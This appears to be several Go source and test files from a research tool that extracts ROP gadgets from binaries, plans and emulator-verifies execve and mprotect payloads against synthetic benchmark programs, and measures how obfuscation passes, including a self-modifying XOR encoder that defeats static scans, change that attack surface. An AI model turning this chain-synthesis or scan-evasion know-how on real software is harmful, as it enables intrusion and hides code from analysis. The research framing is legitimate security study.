	p, _ := benchprog.ByName("crc")
	bin, err := benchprog.Build(p, nil, 42)
	if err != nil {
		t.Fatal(err)
	}
	a := Analyze(bin, Config{
		GadgetFilter: func(g *gadget.Gadget) bool { return g.JmpType == gadget.TypeSyscall },
	})
	for _, g := range a.Pool.Gadgets {
		if g.JmpType != gadget.TypeSyscall {
			t.Fatalf("filter leaked %v", g.JmpType)
		}
	}
	// With only syscall gadgets, no full chain exists.
	atk := a.FindPayloads(planner.ExecveGoal())
	if len(atk.Payloads) != 0 {
		t.Error("payloads without register setters?")
	}
}

// A filtered pool must describe itself: its stats reflect what the filter
// kept, not the unfiltered pool (regression: the stats used to be copied
// verbatim).
func TestGadgetFilterStats(t *testing.T) {
	p, _ := benchprog.ByName("crc")
	bin, err := benchprog.Build(p, obfuscate.LLVMObf(), 42)
	if err != nil {
		t.Fatal(err)
	}
	filter := func(g *gadget.Gadget) bool { return g.JmpType == gadget.TypeReturn }
	full := Analyze(bin, Config{SkipSubsume: true})
	a := Analyze(bin, Config{SkipSubsume: true, GadgetFilter: filter})

	kept := 0
	for _, g := range full.Pool.Gadgets {
		if filter(g) {
			kept++
		}
	}
	if kept == 0 || kept == full.Pool.Size() {
		t.Fatalf("filter not discriminating: kept %d of %d", kept, full.Pool.Size())
	}
	st := a.Pool.Stats
	if st.Supported != kept {
		t.Errorf("Supported = %d, want %d (pool size)", st.Supported, kept)
	}
	if got := st.ByType[gadget.TypeReturn]; got != kept {
		t.Errorf("ByType[Return] = %d, want %d", got, kept)
	}
	for ty, n := range st.ByType {
		if ty != gadget.TypeReturn && n != 0 {
			t.Errorf("ByType[%v] = %d after return-only filter", ty, n)
		}
	}
	merged := 0
	for _, g := range a.Pool.Gadgets {
		if g.Merged {
			merged++
		}
	}
	if st.MergedGadgets != merged {
		t.Errorf("MergedGadgets = %d, want %d", st.MergedGadgets, merged)
	}
	// Scan-level counters still describe the binary, not the filter.
	if st.ScannedOffsets != full.Pool.Stats.ScannedOffsets ||
		st.RawCandidates != full.Pool.Stats.RawCandidates {
		t.Errorf("scan counters changed: %+v vs %+v", st, full.Pool.Stats)
	}
}

func TestChainStatsComposition(t *testing.T) {
	s := Summarize(nil)
	if s.Chains != 0 {
		t.Errorf("empty summarize = %+v", s)
	}
}
