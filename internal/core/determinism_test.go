package core

import (
	"fmt"
	"strings"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
)

// renderPool renders everything downstream consumers can observe about a
// pool: per-gadget location, shape, conditions, and effect summary.
func renderPool(p *gadget.Pool) string {
	var sb strings.Builder
	for _, g := range p.Gadgets {
		fmt.Fprintf(&sb, "%d @%#x len=%d type=%v insts=%d delta=%d end=%d",
			g.ID, g.Location, g.Len, g.JmpType, g.NumInsts(),
			g.Effect.StackDelta, g.Effect.End)
		if g.Effect.NextRIP != nil {
			fmt.Fprintf(&sb, " rip=%s", g.Effect.NextRIP)
		}
		for _, c := range g.Effect.Conds {
			fmt.Fprintf(&sb, " cond=%s", c)
		}
		fmt.Fprintf(&sb, " clob=%v ctrl=%v\n", g.ClobRegs, g.CtrlRegs)
	}
	return sb.String()
}

// The pipeline promises byte-identical results at every worker count: the
// sharded extraction and concurrent subsumption must produce the same pools
// (same gadgets, same rendered conditions, same stats) at Parallelism 1, 2,
// and 8.
func TestAnalysisDeterministicAcrossParallelism(t *testing.T) {
	p := benchprog.Benchmarks()[0]
	bin, err := benchprog.Build(p, obfuscate.LLVMObf(), 42)
	if err != nil {
		t.Fatal(err)
	}

	type snapshot struct {
		raw, min string
		after    int
		queries  int64
	}
	var base snapshot
	for i, par := range []int{1, 2, 8} {
		a := Analyze(bin, Config{Parallelism: par})
		snap := snapshot{
			raw:     renderPool(a.RawPool),
			min:     renderPool(a.Pool),
			after:   a.SubsumeStats.After,
			queries: a.SubsumeStats.SolverQueries,
		}
		if i == 0 {
			base = snap
			if base.raw == "" || base.min == "" {
				t.Fatal("empty pools at parallelism 1")
			}
			continue
		}
		if snap.raw != base.raw {
			t.Errorf("raw pool differs at parallelism %d:\n%s", par, firstDiff(base.raw, snap.raw))
		}
		if snap.min != base.min {
			t.Errorf("minimized pool differs at parallelism %d:\n%s", par, firstDiff(base.min, snap.min))
		}
		if snap.after != base.after {
			t.Errorf("Stats.After = %d at parallelism %d, want %d", snap.after, par, base.after)
		}
		if snap.queries != base.queries {
			t.Errorf("SolverQueries = %d at parallelism %d, want %d", snap.queries, par, base.queries)
		}
	}
}

// firstDiff reports the first line where two renderings diverge.
func firstDiff(a, b string) string {
	la, lb := strings.Split(a, "\n"), strings.Split(b, "\n")
	for i := 0; i < len(la) && i < len(lb); i++ {
		if la[i] != lb[i] {
			return fmt.Sprintf("line %d:\n  base: %s\n  got:  %s", i+1, la[i], lb[i])
		}
	}
	return fmt.Sprintf("lengths differ: %d vs %d lines", len(la), len(lb))
}
