package core

import (
	"testing"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/payload"
	"github.com/nofreelunch/gadget-planner/internal/planner"
)

// TestPipelineOnRV64Binary runs the full build → extract → subsume → plan →
// concretize → verify pipeline against the second backend. The obfuscated
// crc benchmark must yield emulator-verified execve and mprotect payloads on
// both RV64 arms (mmap needs an a3 setter, which small programs rarely
// expose — it is not required here).
func TestPipelineOnRV64Binary(t *testing.T) {
	p, ok := benchprog.ByName("crc")
	if !ok {
		t.Fatal("crc benchmark missing")
	}
	for _, isaName := range []string{"rv64", "rv64c"} {
		bin, err := benchprog.BuildISA(p, obfuscate.LLVMObf(), 42, isaName)
		if err != nil {
			t.Fatalf("%s: build: %v", isaName, err)
		}
		if bin.ISA != isaName {
			t.Fatalf("bin.ISA = %q, want %q", bin.ISA, isaName)
		}
		a := Analyze(bin, Config{
			Planner: planner.Options{MaxPlans: 4, MaxNodes: 5000, Timeout: 15 * time.Second},
		})
		if a.Pool.ISA != isaName {
			t.Fatalf("%s: minimized pool ISA = %q", isaName, a.Pool.ISA)
		}
		if a.RawPool.Size() == 0 || a.Pool.Size() == 0 {
			t.Fatalf("%s: empty pools: raw=%d min=%d", isaName, a.RawPool.Size(), a.Pool.Size())
		}
		if a.SubsumeStats.ReductionFactor() <= 1 {
			t.Errorf("%s: no subsumption reduction: %+v", isaName, a.SubsumeStats)
		}
		if len(a.RawPool.Syscalls) == 0 {
			t.Fatalf("%s: no syscall anchors", isaName)
		}

		attacks := a.FindAll()
		for _, goal := range []string{"execve", "mprotect"} {
			atk := attacks[goal]
			if atk == nil || len(atk.Payloads) == 0 {
				t.Fatalf("%s: no verified %s payloads (expanded %d)",
					isaName, goal, atk.Search.Expanded)
			}
			for _, pl := range atk.Payloads {
				if err := payload.Verify(a.Binary, pl, 0); err != nil {
					t.Errorf("%s: %s payload does not re-verify: %v", isaName, goal, err)
				}
			}
		}
	}
}

// TestRV64CFindsMoreGadgets checks the paper's C-extension claim on the
// decode side: scanning the same generated code at stride 2 with compressed
// decoding enabled (rv64c) must surface strictly more raw gadget starts
// than the aligned stride-4 rv64 scan.
func TestRV64CFindsMoreGadgets(t *testing.T) {
	p, ok := benchprog.ByName("crc")
	if !ok {
		t.Fatal("crc benchmark missing")
	}
	pools := make(map[string]int)
	for _, isaName := range []string{"rv64", "rv64c"} {
		bin, err := benchprog.BuildISA(p, obfuscate.LLVMObf(), 42, isaName)
		if err != nil {
			t.Fatalf("%s: build: %v", isaName, err)
		}
		a := Analyze(bin, Config{SkipSubsume: true})
		pools[isaName] = a.RawPool.Size()
	}
	if pools["rv64c"] <= pools["rv64"] {
		t.Errorf("rv64c pool (%d) not larger than rv64 pool (%d)",
			pools["rv64c"], pools["rv64"])
	}
}
