// Package cliutil is the shared command-line wiring for the cmd/* mains:
// every CLI opens the artifact store the same way (-nocache for the A/B
// arm, -cachedir/$GP_CACHE_DIR for the persistent tier, -nodisk to disable
// just that tier) and addresses the analysis service the same way
// (-server/$GPD_ADDR). Factoring it here keeps the four binaries from
// drifting — the flag set had already diverged once before this package
// existed.
package cliutil

import (
	"flag"
	"fmt"
	"os"

	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/pipeline"
)

// StoreFlags is the store-configuration flag group. Register it with
// RegisterStore, then Open the store after flag.Parse.
type StoreFlags struct {
	NoCache  *bool
	CacheDir *string
	NoDisk   *bool
	Parallel *int
}

// RegisterStore registers -nocache, -cachedir (defaulting to
// $GP_CACHE_DIR), and -nodisk on fs.
func RegisterStore(fs *flag.FlagSet) *StoreFlags {
	f := &StoreFlags{}
	f.NoCache = fs.Bool("nocache", false,
		"disable the artifact store (A/B benchmarking; results are identical)")
	f.CacheDir = fs.String("cachedir", os.Getenv("GP_CACHE_DIR"),
		"persistent artifact cache directory (default $GP_CACHE_DIR; empty disables the disk tier)")
	f.NoDisk = fs.Bool("nodisk", false,
		"disable the persistent cache tier even with -cachedir set (A/B benchmarking; results are identical)")
	return f
}

// WithParallel additionally registers -parallel and returns f for
// chaining.
func (f *StoreFlags) WithParallel(fs *flag.FlagSet) *StoreFlags {
	f.Parallel = fs.Int("parallel", 0,
		"analysis workers (0 = all cores, 1 = serial; results are identical)")
	return f
}

// Open builds the store the flags describe: a caching store, optionally
// disk-backed, or the disabled -nocache arm (which never touches disk —
// no reuse means no reuse).
func (f *StoreFlags) Open() (*pipeline.Store, error) {
	if f.NoCache != nil && *f.NoCache {
		return pipeline.NewDisabledStore(), nil
	}
	store := pipeline.NewStore()
	if *f.CacheDir != "" && !*f.NoDisk {
		disk, err := pipeline.OpenDisk(*f.CacheDir, pipeline.DiskOptions{})
		if err != nil {
			return nil, err
		}
		store.WithDisk(disk)
	}
	return store, nil
}

// Parallelism returns the -parallel value (0 when the flag was not
// registered).
func (f *StoreFlags) Parallelism() int {
	if f.Parallel == nil {
		return 0
	}
	return *f.Parallel
}

// ISAFlag registers the -isa backend flag, defaulting to $GP_ISA: the
// instruction-set backend builds target and analyses scan under. Resolve
// the parsed value with ResolveISA.
func ISAFlag(fs *flag.FlagSet) *string {
	return fs.String("isa", os.Getenv("GP_ISA"),
		"instruction-set backend: x64 (default), rv64, or rv64c (default $GP_ISA)")
}

// ResolveISA validates a parsed -isa value and returns the canonical
// backend name ("" stays "", meaning the default x64 everywhere).
func ResolveISA(name string) (string, error) {
	if name == "" {
		return "", nil
	}
	if _, ok := isa.ByName(name); !ok {
		return "", fmt.Errorf("unknown isa %q (want x64, rv64, or rv64c)", name)
	}
	return isa.CanonicalISA(name), nil
}

// ServerFlag registers the -server client flag, defaulting to $GPD_ADDR:
// when non-empty, the CLI submits its work to a running gpd instead of
// analyzing locally.
func ServerFlag(fs *flag.FlagSet) *string {
	return fs.String("server", os.Getenv("GPD_ADDR"),
		"gpd analysis server address (default $GPD_ADDR; unix:/path.sock or host:port); when set, requests are served by the shared daemon")
}
