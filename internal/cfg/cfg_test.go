package cfg

import (
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/asm"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

func build(t *testing.T, src string, base uint64) (*Graph, *asm.Result) {
	t.Helper()
	r, err := asm.Assemble(src, base)
	if err != nil {
		t.Fatal(err)
	}
	return Build(r.Code, base), r
}

func TestLinearBlock(t *testing.T) {
	g, _ := build(t, "mov rax, 1; add rax, 2; ret", 0x1000)
	if len(g.Blocks) != 1 {
		t.Fatalf("blocks = %d, want 1", len(g.Blocks))
	}
	b := g.BlockAt(0x1000)
	if b == nil || len(b.Insts) != 3 {
		t.Fatalf("block = %+v", b)
	}
	if b.Succs != nil {
		t.Errorf("ret block has successors: %v", b.Succs)
	}
}

func TestBranchSplitsBlocks(t *testing.T) {
	src := `
    mov rax, 0
    cmp rax, 1
    jne skip
    mov rax, 2
skip:
    ret
`
	g, r := build(t, src, 0x1000)
	if len(g.Blocks) != 3 {
		t.Fatalf("blocks = %d, want 3: %v", len(g.Blocks), g.Order)
	}
	first := g.BlockAt(0x1000)
	if len(first.Succs) != 2 {
		t.Fatalf("jcc block succs = %v", first.Succs)
	}
	skipAddr := r.Labels["skip"]
	foundSkip := false
	for _, s := range first.Succs {
		if s == skipAddr {
			foundSkip = true
		}
	}
	if !foundSkip {
		t.Errorf("jcc target %#x not in succs %v", skipAddr, first.Succs)
	}
	// The fall-through block must flow into skip.
	mid := g.BlockAt(first.End())
	if mid == nil || len(mid.Succs) != 1 || mid.Succs[0] != skipAddr {
		t.Errorf("fall-through block = %+v", mid)
	}
}

func TestDirectJumpEdge(t *testing.T) {
	src := `
    jmp target
    nop
target:
    ret
`
	g, r := build(t, src, 0)
	b := g.BlockAt(0)
	if len(b.Succs) != 1 || b.Succs[0] != r.Labels["target"] {
		t.Errorf("jmp succs = %v, want [%#x]", b.Succs, r.Labels["target"])
	}
}

func TestIndirectJumpNoSuccs(t *testing.T) {
	g, _ := build(t, "jmp rax", 0)
	if got := g.BlockAt(0).Succs; got != nil {
		t.Errorf("indirect jmp succs = %v", got)
	}
}

func TestCallEdges(t *testing.T) {
	src := `
    call fn
    ret
fn:
    ret
`
	g, r := build(t, src, 0x1000)
	b := g.BlockAt(0x1000)
	if len(b.Succs) != 2 {
		t.Fatalf("call succs = %v", b.Succs)
	}
	if b.Succs[0] != r.Labels["fn"] {
		t.Errorf("call target = %#x", b.Succs[0])
	}
}

func TestUndecodableBytesSkipped(t *testing.T) {
	// 0x06 is not a valid opcode in 64-bit mode.
	code := []byte{0x06, 0x06, 0x5F, 0xC3} // junk, junk, pop rdi, ret
	g := Build(code, 0x2000)
	if g.NumInsts() != 2 {
		t.Fatalf("insts = %d, want 2", g.NumInsts())
	}
	if _, ok := g.InstAt(0x2002); !ok {
		t.Error("pop rdi not found at 0x2002")
	}
}

func TestFromBinary(t *testing.T) {
	r1 := asm.MustAssemble("pop rdi; ret", 0x1000)
	r2 := asm.MustAssemble("pop rsi; ret", 0x3000)
	bin := sbf.New()
	bin.AddSection(sbf.Section{Name: ".text", Addr: 0x1000, Flags: sbf.FlagRead | sbf.FlagExec, Data: r1.Code})
	bin.AddSection(sbf.Section{Name: ".text2", Addr: 0x3000, Flags: sbf.FlagRead | sbf.FlagExec, Data: r2.Code})
	bin.AddSection(sbf.Section{Name: ".data", Addr: 0x5000, Flags: sbf.FlagRead | sbf.FlagWrite, Data: []byte{0xC3}})
	g := FromBinary(bin)
	if len(g.Blocks) != 2 {
		t.Fatalf("blocks = %d, want 2 (data section must be excluded)", len(g.Blocks))
	}
}

func TestSummarize(t *testing.T) {
	src := `
    cmp rax, 1
    jne a
a:  jmp rbx
    jmp a
    call rcx
    syscall
    ret
`
	g, _ := build(t, src, 0)
	s := g.Summarize()
	if s.CondJumps != 1 || s.IndirectJmps != 1 || s.DirectJumps != 1 ||
		s.Calls != 1 || s.Syscalls != 1 || s.Returns != 1 {
		t.Errorf("stats = %+v", s)
	}
	if s.String() == "" {
		t.Error("empty stats string")
	}
}

func TestTerminator(t *testing.T) {
	g, _ := build(t, "nop; ret", 0)
	b := g.BlockAt(0)
	if b.Terminator().Op != isa.OpRet {
		t.Errorf("terminator = %v", b.Terminator().Op)
	}
	if b.End() != 2 {
		t.Errorf("end = %#x", b.End())
	}
}
