// Package cfg recovers a control-flow graph from machine code by linear
// sweep: instructions are decoded sequentially, branch targets and
// fall-through points become block leaders, and blocks record their
// successor edges. The gadget extractor uses block starts as the "aligned"
// gadget positions, and the direct-jump merging stage follows edges.
package cfg

import (
	"fmt"
	"sort"

	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// Block is a basic block: straight-line instructions ending at a branch or
// at the start of another block.
type Block struct {
	Start uint64
	Insts []isa.Inst
	// Succs are the static successor addresses (branch targets and
	// fall-through). Indirect branches contribute no successors.
	Succs []uint64
}

// End returns the address one past the block's last instruction.
func (b *Block) End() uint64 {
	if len(b.Insts) == 0 {
		return b.Start
	}
	last := b.Insts[len(b.Insts)-1]
	return last.End()
}

// Terminator returns the block's final instruction.
func (b *Block) Terminator() isa.Inst {
	return b.Insts[len(b.Insts)-1]
}

// Graph is a control-flow graph over one or more code regions.
type Graph struct {
	Blocks map[uint64]*Block
	// Order lists block start addresses in ascending order.
	Order []uint64
	insts map[uint64]isa.Inst
}

// Build performs linear-sweep disassembly of code based at base and
// partitions it into basic blocks. Undecodable bytes are skipped (they
// become gaps, as data islands in code would).
func Build(code []byte, base uint64) *Graph {
	insts := make(map[uint64]isa.Inst)
	var order []uint64
	pos := 0
	for pos < len(code) {
		inst, err := isa.Decode(code[pos:], base+uint64(pos))
		if err != nil {
			pos++
			continue
		}
		insts[inst.Addr] = inst
		order = append(order, inst.Addr)
		pos += int(inst.Len)
	}

	// Identify leaders.
	leaders := make(map[uint64]bool)
	if len(order) > 0 {
		leaders[order[0]] = true
	}
	for _, addr := range order {
		inst := insts[addr]
		if inst.IsDirectBranch() {
			leaders[uint64(inst.A.Imm)] = true
		}
		if inst.IsBranch() {
			leaders[inst.End()] = true
		}
	}

	// Partition into blocks.
	g := &Graph{Blocks: make(map[uint64]*Block), insts: insts}
	var cur *Block
	for _, addr := range order {
		inst := insts[addr]
		if cur == nil || leaders[addr] {
			cur = &Block{Start: addr}
			g.Blocks[addr] = cur
			g.Order = append(g.Order, addr)
		}
		cur.Insts = append(cur.Insts, inst)
		if inst.IsBranch() {
			cur.Succs = blockSuccessors(inst)
			cur = nil
		}
	}
	// Blocks that ended because the next address is a leader fall through.
	for _, start := range g.Order {
		b := g.Blocks[start]
		if len(b.Succs) == 0 && !b.Terminator().IsBranch() {
			if _, ok := g.Blocks[b.End()]; ok {
				b.Succs = []uint64{b.End()}
			}
		}
	}
	sort.Slice(g.Order, func(i, j int) bool { return g.Order[i] < g.Order[j] })
	return g
}

func blockSuccessors(term isa.Inst) []uint64 {
	switch term.Op {
	case isa.OpRet, isa.OpHlt, isa.OpInt3:
		return nil
	case isa.OpSyscall:
		return []uint64{term.End()}
	case isa.OpJmp:
		if term.A.Kind == isa.KindImm {
			return []uint64{uint64(term.A.Imm)}
		}
		return nil
	case isa.OpJcc:
		return []uint64{uint64(term.A.Imm), term.End()}
	case isa.OpCall:
		// Calls return; the static successor is the fall-through. The
		// callee edge is recorded only for direct calls.
		if term.A.Kind == isa.KindImm {
			return []uint64{uint64(term.A.Imm), term.End()}
		}
		return []uint64{term.End()}
	}
	return nil
}

// FromBinary builds one graph covering all executable sections.
func FromBinary(bin *sbf.Binary) *Graph {
	merged := &Graph{Blocks: make(map[uint64]*Block), insts: make(map[uint64]isa.Inst)}
	for _, sec := range bin.ExecSections() {
		g := Build(sec.Data, sec.Addr)
		for addr, blk := range g.Blocks {
			merged.Blocks[addr] = blk
		}
		merged.Order = append(merged.Order, g.Order...)
		for a, i := range g.insts {
			merged.insts[a] = i
		}
	}
	sort.Slice(merged.Order, func(i, j int) bool { return merged.Order[i] < merged.Order[j] })
	return merged
}

// BlockAt returns the block starting exactly at addr, or nil.
func (g *Graph) BlockAt(addr uint64) *Block { return g.Blocks[addr] }

// InstAt returns the linearly-decoded instruction at addr, if the sweep
// produced one there.
func (g *Graph) InstAt(addr uint64) (isa.Inst, bool) {
	inst, ok := g.insts[addr]
	return inst, ok
}

// NumInsts returns how many instructions the sweep decoded.
func (g *Graph) NumInsts() int { return len(g.insts) }

// Stats summarizes the graph for reports.
type Stats struct {
	Blocks       int
	Instructions int
	DirectJumps  int
	IndirectJmps int
	CondJumps    int
	Returns      int
	Calls        int
	Syscalls     int
}

// Summarize computes graph statistics.
func (g *Graph) Summarize() Stats {
	s := Stats{Blocks: len(g.Blocks), Instructions: len(g.insts)}
	for _, inst := range g.insts {
		switch inst.Op {
		case isa.OpRet:
			s.Returns++
		case isa.OpJcc:
			s.CondJumps++
		case isa.OpJmp:
			if inst.A.Kind == isa.KindImm {
				s.DirectJumps++
			} else {
				s.IndirectJmps++
			}
		case isa.OpCall:
			s.Calls++
		case isa.OpSyscall:
			s.Syscalls++
		}
	}
	return s
}

// String renders a compact description for diagnostics.
func (s Stats) String() string {
	return fmt.Sprintf("blocks=%d insts=%d ret=%d dj=%d ij=%d cj=%d call=%d syscall=%d",
		s.Blocks, s.Instructions, s.Returns, s.DirectJumps, s.IndirectJmps,
		s.CondJumps, s.Calls, s.Syscalls)
}
