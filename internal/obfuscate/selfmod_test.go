package obfuscate

import (
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/codegen"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/mir"
)

func TestSelfModifyPreservesBehaviour(t *testing.T) {
	src := testPrograms["sort"]
	plain, err := codegen.BuildProgram(src, nil, codegen.Options{})
	if err != nil {
		t.Fatal(err)
	}
	want, err := codegen.Run(plain, nil, 0)
	if err != nil {
		t.Fatal(err)
	}

	sm, err := SelfModifyBinary(plain, 0x5A)
	if err != nil {
		t.Fatal(err)
	}
	got, err := codegen.Run(sm, nil, 0)
	if err != nil {
		t.Fatalf("self-modified run: %v", err)
	}
	if got.Stdout != want.Stdout || got.ExitCode != want.ExitCode {
		t.Errorf("behaviour changed: %q/%d vs %q/%d",
			got.Stdout, got.ExitCode, want.Stdout, want.ExitCode)
	}
	// Decoding takes steps: the self-modified run is strictly longer.
	if got.Steps <= want.Steps {
		t.Errorf("steps %d <= %d: stub did not run?", got.Steps, want.Steps)
	}
}

// TestSelfModifyDefeatsStaticScan shows the two-sided result: the static
// scan of the encoded image finds almost nothing, while the decoded image
// has the full (original) attack surface back.
func TestSelfModifyDefeatsStaticScan(t *testing.T) {
	src := testPrograms["sort"]
	plain, err := codegen.BuildProgram(src, nil, codegen.Options{})
	if err != nil {
		t.Fatal(err)
	}
	const key = 0x77
	sm, err := SelfModifyBinary(plain, key)
	if err != nil {
		t.Fatal(err)
	}

	before := gadget.TotalCount(gadget.Count(plain, 10))
	encodedScan := gadget.TotalCount(gadget.Count(sm, 10))
	if encodedScan >= before {
		t.Errorf("static scan of encoded image not reduced: %d vs %d", encodedScan, before)
	}

	decoded, err := DecodeSelfModified(sm, key)
	if err != nil {
		t.Fatal(err)
	}
	after := gadget.TotalCount(gadget.Count(decoded, 10))
	// The decoded image contains at least the original gadgets (plus the
	// stub's).
	if after < before {
		t.Errorf("decoded image lost gadgets: %d vs %d", after, before)
	}
	t.Logf("gadgets: original=%d encoded=%d decoded=%d", before, encodedScan, after)
}

func TestSelfModifyErrors(t *testing.T) {
	plain, err := codegen.BuildProgram(testPrograms["fib"], nil, codegen.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := SelfModifyBinary(plain, 0); err == nil {
		t.Error("zero key accepted")
	}
}

func TestSelfModifyComposesWithPasses(t *testing.T) {
	// Self-modification stacked on top of the LLVM-Obf preset.
	src := testPrograms["calls"]
	plain, err := codegen.BuildProgram(src, nil, codegen.Options{})
	if err != nil {
		t.Fatal(err)
	}
	want, err := codegen.Run(plain, nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	obf, err := codegen.BuildProgram(src, func(m *mir.Module) error {
		return Apply(m, 9, LLVMObf()...)
	}, codegen.Options{})
	if err != nil {
		t.Fatal(err)
	}
	sm, err := SelfModifyBinary(obf, 0xA5)
	if err != nil {
		t.Fatal(err)
	}
	got, err := codegen.Run(sm, nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	if got.Stdout != want.Stdout || got.ExitCode != want.ExitCode {
		t.Errorf("composed behaviour changed: %q vs %q", got.Stdout, want.Stdout)
	}
}
