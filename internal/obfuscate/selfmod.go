package obfuscate

import (
	"fmt"

	"github.com/nofreelunch/gadget-planner/internal/asm"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// SelfModifyBinary applies the paper's self-modification obfuscation
// (Section II-A (5)) as a post-link transform: the executable section is
// XOR-encoded, marked writable, and a decoder stub that restores it at
// startup becomes the new entry point.
//
// Statically, the program's real code is invisible — a gadget scan over
// the encoded bytes sees noise. The decoded runtime image, however, is the
// original attack surface, plus the stub's own gadgets: the no-free-lunch
// trade-off in its purest form. (See TestSelfModifyDefeatsStaticScan.)
func SelfModifyBinary(bin *sbf.Binary, key byte) (*sbf.Binary, error) {
	if key == 0 {
		return nil, fmt.Errorf("obfuscate: selfmod key must be non-zero")
	}
	text := bin.Section(".text")
	if text == nil {
		return nil, fmt.Errorf("obfuscate: no .text section")
	}

	out := sbf.New()
	out.Symbols = make(map[string]uint64, len(bin.Symbols)+1)
	for k, v := range bin.Symbols {
		out.Symbols[k] = v
	}

	// Decoder stub below the text base.
	stubBase := text.Addr - 0x1000
	stub := fmt.Sprintf(`
_decode:
    movabs rbx, %#x
    movabs rcx, %#x
decode_loop:
    movzx eax, byte [rbx]
    xor eax, %#x
    mov byte [rbx], al
    inc rbx
    dec rcx
    jnz decode_loop
    movabs rax, %#x
    jmp rax
`, text.Addr, len(text.Data), int(key), bin.Entry)
	r, err := asm.Assemble(stub, stubBase)
	if err != nil {
		return nil, fmt.Errorf("obfuscate: selfmod stub: %w", err)
	}

	encoded := make([]byte, len(text.Data))
	for i, b := range text.Data {
		encoded[i] = b ^ key
	}

	for _, s := range bin.Sections {
		if s.Name == ".text" {
			// The code must be writable so the stub can decode it (the
			// W^X violation is inherent to self-modifying programs).
			out.AddSection(sbf.Section{
				Name: s.Name, Addr: s.Addr,
				Flags: sbf.FlagRead | sbf.FlagWrite | sbf.FlagExec,
				Data:  encoded,
			})
			continue
		}
		out.AddSection(s)
	}
	out.AddSection(sbf.Section{
		Name: ".stub", Addr: stubBase,
		Flags: sbf.FlagRead | sbf.FlagExec, Data: r.Code,
	})
	out.Entry = stubBase
	out.Symbols["_decode"] = stubBase
	return out, nil
}

// DecodeSelfModified statically reverses SelfModifyBinary for analysis —
// what an attacker does after dumping the runtime image.
func DecodeSelfModified(bin *sbf.Binary, key byte) (*sbf.Binary, error) {
	text := bin.Section(".text")
	if text == nil {
		return nil, fmt.Errorf("obfuscate: no .text section")
	}
	out := sbf.New()
	out.Symbols = bin.Symbols
	for _, s := range bin.Sections {
		if s.Name == ".text" {
			decoded := make([]byte, len(s.Data))
			for i, b := range s.Data {
				decoded[i] = b ^ key
			}
			out.AddSection(sbf.Section{
				Name: s.Name, Addr: s.Addr, Flags: s.Flags, Data: decoded,
			})
			continue
		}
		out.AddSection(s)
	}
	out.Entry = bin.Entry
	return out, nil
}
