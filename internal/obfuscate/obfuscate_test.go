package obfuscate

import (
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/codegen"
	"github.com/nofreelunch/gadget-planner/internal/mir"
)

// Benchmark-style programs exercising every language feature through every
// obfuscation pass.
var testPrograms = map[string]string{
	"fib": `
int fib(int n) {
    if (n < 2) return n;
    return fib(n - 1) + fib(n - 2);
}
int main() {
    print_int(fib(15));
    print_char('\n');
    return 0;
}`,
	"sort": `
int a[16];
int main() {
    int i;
    int j;
    for (i = 0; i < 16; i++) a[i] = (i * 37 + 11) % 29;
    for (i = 0; i < 16; i++) {
        for (j = 0; j + 1 < 16 - i; j++) {
            if (a[j] > a[j + 1]) {
                int t = a[j];
                a[j] = a[j + 1];
                a[j + 1] = t;
            }
        }
    }
    for (i = 0; i < 16; i++) { print_int(a[i]); print_char(' '); }
    print_char('\n');
    return a[0];
}`,
	"strings": `
int main() {
    char buf[32];
    char *msg = "obfuscate me";
    int i = 0;
    while (msg[i]) {
        char c = msg[i];
        if (c >= 'a' && c <= 'z') c = c - 'a' + 'A';
        buf[i] = c;
        i++;
    }
    buf[i] = 0;
    print_str(buf);
    print_char('\n');
    return i;
}`,
	"bits": `
int popcount(int x) {
    int n = 0;
    while (x) {
        n += x & 1;
        x = (x >> 1) & 0x7FFFFFFFFFFFFFF;
    }
    return n;
}
int main() {
    print_int(popcount(0xDEADBEEF));
    print_char(' ');
    print_int(12345 ^ 54321);
    print_char(' ');
    print_int((123 * 456 - 789) / 13 % 97);
    print_char('\n');
    return 0;
}`,
	"calls": `
int helper(int a, int b, int c) { return a * 100 + b * 10 + c; }
int twice(int x) { return helper(x, x, x) * 2; }
int main() {
    print_int(helper(1, 2, 3) + twice(4));
    print_char('\n');
    return 0;
}`,
}

// runPlain compiles without obfuscation.
func runPlain(t *testing.T, src string) *codegen.RunResult {
	t.Helper()
	bin, err := codegen.BuildProgram(src, nil, codegen.Options{})
	if err != nil {
		t.Fatalf("build plain: %v", err)
	}
	res, err := codegen.Run(bin, nil, 0)
	if err != nil {
		t.Fatalf("run plain: %v", err)
	}
	return res
}

// runObf compiles with the given passes.
func runObf(t *testing.T, src string, passes ...Pass) (*codegen.RunResult, int) {
	t.Helper()
	var codeSize int
	bin, err := codegen.BuildProgram(src, func(m *mir.Module) error {
		return Apply(m, 12345, passes...)
	}, codegen.Options{})
	if err != nil {
		t.Fatalf("build obf: %v", err)
	}
	codeSize = bin.CodeSize()
	res, err := codegen.Run(bin, nil, 0)
	if err != nil {
		t.Fatalf("run obf: %v", err)
	}
	return res, codeSize
}

// TestPassesPreserveSemantics is the key obfuscator test: every pass and
// preset must leave program behaviour identical.
func TestPassesPreserveSemantics(t *testing.T) {
	configs := map[string][]Pass{
		"sub":      {&Substitute{Rounds: 1}},
		"sub2":     {&Substitute{Rounds: 2}},
		"bcf":      {&BogusControlFlow{Prob: 0.8}},
		"fla":      {&Flatten{}},
		"enc":      {&EncodeLiterals{}},
		"virt":     {&Virtualize{}},
		"llvm-obf": LLVMObf(),
		"tigress":  Tigress(),
		"fla+virt": {&Flatten{}, &Virtualize{}},
		"virt+fla": {&Virtualize{}, &Flatten{}},
	}
